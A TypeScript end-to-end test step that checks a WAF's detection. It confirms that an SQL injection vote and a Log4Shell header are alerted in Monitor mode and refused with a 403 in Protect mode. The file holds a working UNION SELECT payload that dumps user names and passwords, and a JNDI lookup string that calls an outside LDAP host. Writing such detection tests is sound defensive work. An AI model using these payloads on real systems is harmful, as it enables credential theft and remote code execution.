import { group, loadBalancerIp, type Stage } from './stage.ts'
import type { Step } from './story.ts'

const from = ['--interface', loadBalancerIp] as const

/** A vote that asks the database for more. */
const injection = "/api/ihop?voter=1'%20UNION%20SELECT%20name,password%20FROM%20users--%20-"
/** CVE-2021-44228, where many a server writes it to its log. */
const log4shell = ['--header', `X-Api-Version: \${jndi:ldap://198.51.100.7:1389/a}`] as const

/** The event of a request that a sensor found something in. */
async function threat(stage: Stage, since: number, path: string, action: 'allowed' | 'denied'): Promise<string> {
  const { id, incident, inspection, message } = await stage.event(
    `a threat at ${path}, ${action}`,
    since,
    (e) => e.kind === 'threat' && e.action === action && e.destination?.group === group.ui && e.http?.path === path,
  )
  const rules = inspection?.findings.map(({ rule }) => rule).join(', ')
  return `event ${id}, incident ${incident}: ${message} (score ${inspection?.score}; rules ${rules})`
}

/** What the client was told is what the event can be found by. */
async function blocked(stage: Stage, url: string, ...more: readonly string[]): Promise<string> {
  const { body } = await stage.answered('external', url, 403, ...from, ...more)
  const incident = /Incident (\S+)/.exec(body)?.[1]
  const { value } = await stage.until(`an event with the incident of ${url}`, async () => {
    const found = await stage.api.call('listEvents', { query: { ...(incident && { incident }), kind: 'threat' } })
    return found.value.events.length > 0 ? found : undefined
  })
  return `${body.trim()} → ${value.events[0]!.message}`
}

/** All of the story was looked at by the same rules, in passing: everyday traffic is no threat. */
async function nothingSoFar(stage: Stage): Promise<string> {
  const alerts = await stage.alerts()
  if (alerts.length > 0) throw new Error(`everyday traffic raised ${alerts.map(({ message }) => message).join('; ')}`)
  return 'the story so far raised no threat and no leak'
}

/** One sensor on one group: an alert in Monitor, a refusal in Protect. */
export const threats: Step = {
  title: 'WAF: an SQL injection in a vote is an alert in Monitor and a 403 in Protect; log4shell in a header, too',
  async run(stage) {
    const { policy } = stage
    const seen = [await nothingSoFar(stage)]
    const url = `http://${await stage.ip('yelb-ui')}`
    await policy.inspect({ group: group.ui, waf: [{ sensor: 'base', action: 'deny' }] })
    await policy.clusterMode('monitor')
    await stage.applied()
    const watched = Date.now()
    await stage.answered('external', url + injection, 200, ...from)
    seen.push(`Monitor: passed; ${await threat(stage, watched, injection.split('?')[0]!, 'allowed')}`)
    await policy.clusterMode('protect')
    await stage.applied()
    const enforced = Date.now()
    seen.push(`Protect: ${await blocked(stage, url + injection, ...from)}`)
    seen.push(await threat(stage, enforced, injection.split('?')[0]!, 'denied'))
    seen.push(`log4shell: ${await blocked(stage, `${url}/`, ...log4shell)}`)
    return [...seen, await stage.yelbWorks()]
  },
}
